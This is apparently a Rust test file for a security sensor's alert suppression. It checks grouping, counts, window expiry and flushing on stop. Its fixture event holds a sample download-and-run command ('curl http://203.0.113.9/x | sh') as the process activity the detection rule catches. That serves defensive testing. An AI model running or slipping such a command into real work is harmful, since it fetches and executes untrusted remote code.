//! Alert suppression end to end: a rule's `[rule.alert_suppression]` or the
//! configuration's groups identical alerts into one alert (one
//! `kibana.alert.uuid`), written at once and written again with its count
//! when the window closes or the input ends.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

use serde_json::{json, Value};

mod support;

const SEED: &str = "497a7091-0ebd-44d7-88c4-367ab4d4d852";
const T0_MS: i64 = 1_772_359_200_000; // 2026-03-01T10:00:00Z

fn iso(ms: i64) -> String {
    sensor::rules::suppression::iso_ms(ms)
}

/// The seed rule's alert, at `ms`, from the web server `parent`.
fn event(n: usize, ms: i64, parent: &str) -> String {
    json!({
        "@timestamp": iso(ms),
        "event": {"id": format!("ev-{n}"), "kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
        "process": {"pid": 4242, "name": "sh", "args": ["sh", "-c", "curl http://203.0.113.9/x | sh"], "args_count": 3,
                    "parent": {"pid": 100, "name": parent, "args": ["worker"], "interactive": false}},
        "container": {"id": "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},
        "host": {"name": "node-1"},
    })
    .to_string()
}

const SUPPRESSION: &str = "group_by = [\"host.name\", \"process.parent.name\"]\nmissing_fields_strategy = \"suppress\"\nduration = { value = 5, unit = \"m\" }\n";

fn replay(dir: &Path, config: &str, events: &[String]) -> Vec<Value> {
    support::replay_with_config(dir, config, events)
}

fn suppression(alert: &Value) -> &Value {
    &alert["kibana"]["alert"]["suppression"]
}

#[test]
fn a_thousand_identical_alerts_make_one_alert_with_the_right_count() {
    let dir = tempfile::tempdir().unwrap();
    // 1,000 alerts 100 ms apart: 99.9 s, inside one 5-minute window.
    let events: Vec<String> = (0..1000)
        .map(|n| event(n, T0_MS + 100 * n as i64, "nginx"))
        .collect();
    let plain = replay(dir.path(), "", &events);
    assert_eq!(
        plain.len(),
        1000,
        "without suppression every alert is written"
    );

    let config = format!("[rule_overrides.\"{SEED}\".alert_suppression]\n{SUPPRESSION}");
    let alerts = replay(dir.path(), &config, &events);
    assert_eq!(
        alerts.len(),
        2,
        "the first alert, then the same alert with its count"
    );
    let (first, last) = (&alerts[0], &alerts[1]);
    let uuid = &first["kibana"]["alert"]["uuid"];
    assert!(uuid.as_str().is_some_and(|u| u.len() == 32));
    assert_eq!(
        &last["kibana"]["alert"]["uuid"], uuid,
        "one alert document, updated"
    );
    let terms = json!([
        {"field": "host.name", "value": ["node-1"]},
        {"field": "process.parent.name", "value": ["nginx"]},
    ]);
    assert_eq!(
        suppression(first),
        &json!({"docs_count": 0, "start": iso(T0_MS), "end": iso(T0_MS), "terms": terms})
    );
    assert_eq!(
        suppression(last),
        &json!({"docs_count": 999, "start": iso(T0_MS), "end": iso(T0_MS + 99_900), "terms": terms})
    );
    // The rest of the alert is the first event's alert, unchanged.
    let mut expected = plain[0].clone();
    for (k, v) in first["kibana"]["alert"].as_object().unwrap() {
        if ["uuid", "instance", "suppression"].contains(&k.as_str()) {
            expected["kibana"]["alert"][k] = v.clone();
        }
    }
    assert_eq!(first, &expected);
    let mut updated = first.clone();
    updated["kibana"]["alert"]["suppression"] = suppression(last).clone();
    assert_eq!(last, &updated);
}

#[test]
fn groups_are_per_value_and_a_window_closes_after_its_duration() {
    let dir = tempfile::tempdir().unwrap();
    let events = vec![
        event(0, T0_MS, "nginx"),
        event(1, T0_MS + 1_000, "apache2"),
        event(2, T0_MS + 2_000, "nginx"),
        // Five minutes after the first nginx alert: a new window.
        event(3, T0_MS + 300_000, "nginx"),
        event(4, T0_MS + 300_001, "nginx"),
    ];
    let config = format!("[rule_overrides.\"{SEED}\".alert_suppression]\n{SUPPRESSION}");
    let alerts = replay(dir.path(), &config, &events);
    let seen: Vec<(String, u64)> = alerts
        .iter()
        .map(|a| {
            (
                a["event"]["id"].as_str().unwrap().to_owned(),
                suppression(a)["docs_count"].as_u64().unwrap(),
            )
        })
        .collect();
    let expected = [
        ("ev-0", 0),
        ("ev-1", 0),
        ("ev-0", 1),
        ("ev-3", 0),
        ("ev-3", 1),
    ];
    assert_eq!(
        seen,
        expected.map(|(id, n)| (id.to_owned(), n)).to_vec(),
        "apache2's group suppressed nothing and is not written again"
    );
    assert_ne!(
        alerts[0]["kibana"]["alert"]["uuid"],
        alerts[3]["kibana"]["alert"]["uuid"]
    );
    assert_eq!(
        alerts[0]["kibana"]["alert"]["instance"], alerts[3]["kibana"]["alert"]["instance"],
        "the same group (instance), another alert (uuid)"
    );
}

#[test]
fn a_rule_files_own_alert_suppression_is_honoured() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    let rule = format!(
        "{}\n[rule.alert_suppression]\ngroup_by = [\"host.name\"]\nmissing_fields_strategy = \"doNotSuppress\"\n\n[rule.alert_suppression.duration]\nunit = \"h\"\nvalue = 1\n",
        sensor::rules::builtin::seed_text()
    );
    std::fs::write(rules.join("seed.toml"), rule).unwrap();
    let events: Vec<String> = (0..10)
        .map(|n| event(n, T0_MS + n as i64, "nginx"))
        .collect();
    let mut no_host: Value = serde_json::from_str(&event(10, T0_MS + 10, "nginx")).unwrap();
    no_host.as_object_mut().unwrap().remove("host");
    let mut all = events.clone();
    all.push(no_host.to_string());
    all.push(no_host.to_string());
    let config = format!("rules = [\"{}\"]\n", rules.display());
    let alerts = replay(dir.path(), &config, &all);
    // One group of ten (written twice), and the two without host.name
    // written on their own (doNotSuppress), without suppression fields.
    assert_eq!(alerts.len(), 4, "{alerts:#?}");
    assert!(suppression(&alerts[1]).is_null() && suppression(&alerts[2]).is_null());
    assert_eq!(suppression(&alerts[3])["docs_count"], json!(9));
}

#[test]
fn stopping_writes_the_open_groups_counts() {
    use sensor::output::alert::AlertWriter;
    use sensor::rules::exceptions::ExceptionCatalogue;
    use sensor::rules::policy::AlertPolicy;
    use sensor::rules::suppression::SuppressionSpec;
    use sensor::rules::tuning::{RuleOverride, Tuning};
    let rules = sensor::rules::RuleSet::embedded_default().unwrap();
    let mut tuning = Tuning::default();
    tuning.rule_overrides.insert(
        SEED.into(),
        RuleOverride {
            alert_suppression: Some(toml::from_str::<SuppressionSpec>(SUPPRESSION).unwrap()),
            ..RuleOverride::default()
        },
    );
    let (policy, _) = AlertPolicy::build(&rules, &ExceptionCatalogue::default(), &tuning).unwrap();
    let buf = support::Shared::default();
    let mut w = AlertWriter::new(Box::new(buf.clone())).with_policy(policy);
    let meta = &rules.rules()[0].meta;
    for n in 0..3 {
        let ev: Value = serde_json::from_str(&event(n, T0_MS + n as i64, "nginx")).unwrap();
        w.write_alert(&ev, meta).unwrap();
    }
    assert_eq!(
        w.policy().suppression_stats(),
        vec![(
            SEED,
            sensor::rules::suppression::SuppressionStats {
                suppressed: 2,
                opened: 1,
                evicted: 0,
                open: 1
            }
        )]
    );
    w.close();
    let text = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(suppression(&lines[1])["docs_count"], json!(2));
}
